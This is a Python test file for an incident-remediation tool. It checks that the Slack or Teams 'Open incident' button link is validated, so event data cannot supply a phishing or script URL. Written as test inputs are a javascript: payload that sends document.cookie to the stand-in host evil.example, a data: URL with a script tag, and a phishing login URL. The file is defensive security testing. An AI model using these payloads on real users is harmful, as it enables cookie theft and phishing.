"""``notify.webhook``'s ``link:`` (the "Open incident" button of a Slack or Teams message) is
a URL the on-call person clicks, and it was accepted whole from the event (red-team round after
issue 14, items 6 and 9).

Found on a running ``serve --live``: a rule with ``link: "{{ event.attributes.portal_link }}"``
(the legacy metric alert's ``context.portalLink``, which a playbook author would naturally
offer as the button) passed ``remediator validate``; an alert whose ``portalLink`` was
``https://evil.example/sso/login?next=incident`` or ``javascript:fetch(...)`` reached the Slack
channel as ``{"type": "button", "text": "Open incident", "url": <that>}``: the phishing link of
issue 14 item 6, now in Remediator's own button. ``url:`` already has to write out its scheme
and host before its first template; ``link:`` must be held to the same rule."""

from __future__ import annotations

import textwrap
from pathlib import Path

import msgspec
import pytest
from click.testing import CliRunner

from cli import main
from engine.actions.notify import NotifyParams


def _playbook(link: str) -> str:
    return textwrap.dedent(f"""\
        name: links
        rules:
          - id: page-someone
            match: {{source: generic}}
            actions:
              - action: notify.webhook
                with: {{channel: data-oncall, text: "alert", link: "{link}"}}
        """)


@pytest.mark.parametrize("link", [
    "{{ event.attributes.portal_link }}",
    "{{ event.attributes.portal_link | default('https://portal.azure.com/') }}",
    "https://{{ event.attributes.host }}/x",
])
def test_validate_refuses_a_link_whose_scheme_or_host_comes_from_the_event(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str) -> None:
    monkeypatch.chdir(tmp_path)
    Path("links.yaml").write_text(_playbook(link))
    result = CliRunner().invoke(main, ["validate", "links.yaml"], catch_exceptions=False)
    assert result.exit_code == 1
    [problem, count] = result.stderr.splitlines()
    assert problem.startswith("links.yaml:7:") and "`link`" in problem
    assert count == "1 problem(s)"


def test_a_link_with_a_literal_origin_passes(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("links.yaml").write_text(
        _playbook("https://portal.azure.com/#resource{{ event.resource_id }}"))
    result = CliRunner().invoke(main, ["validate", "links.yaml"], catch_exceptions=False)
    assert (result.exit_code, result.stdout) == (0, "ok: 1 rule(s) in 1 file(s), 0 test(s)\n")


@pytest.mark.parametrize("link", ["javascript:fetch('https://evil.example/'+document.cookie)",
                                  "data:text/html,<script>alert(1)</script>", "https://",
                                  "portal.azure.com/x"])
def test_validate_refuses_a_literal_link_that_is_not_http(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str) -> None:
    monkeypatch.chdir(tmp_path)
    Path("links.yaml").write_text(_playbook(link.replace('"', "'")))
    result = CliRunner().invoke(main, ["validate", "links.yaml"], catch_exceptions=False)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "links.yaml:7:59: parameter `link` of action `notify.webhook`: expected an http or "
        "https URL with a host", "1 problem(s)"]


def test_a_rendered_link_that_is_not_http_is_refused_by_the_parameters() -> None:
    for link in ("javascript:alert(1)", "https:///nohost", "//evil.example/x"):
        with pytest.raises(msgspec.ValidationError) as raised:
            msgspec.convert({"text": "t", "channel": "c", "link": link}, NotifyParams)
        assert str(raised.value) == (
            f"link must be an http or https URL with a host, got {link!r}")
    ok = msgspec.convert({"text": "t", "channel": "c", "link": "https://portal.azure.com/#x"},
                         NotifyParams)
    assert ok.link == "https://portal.azure.com/#x"
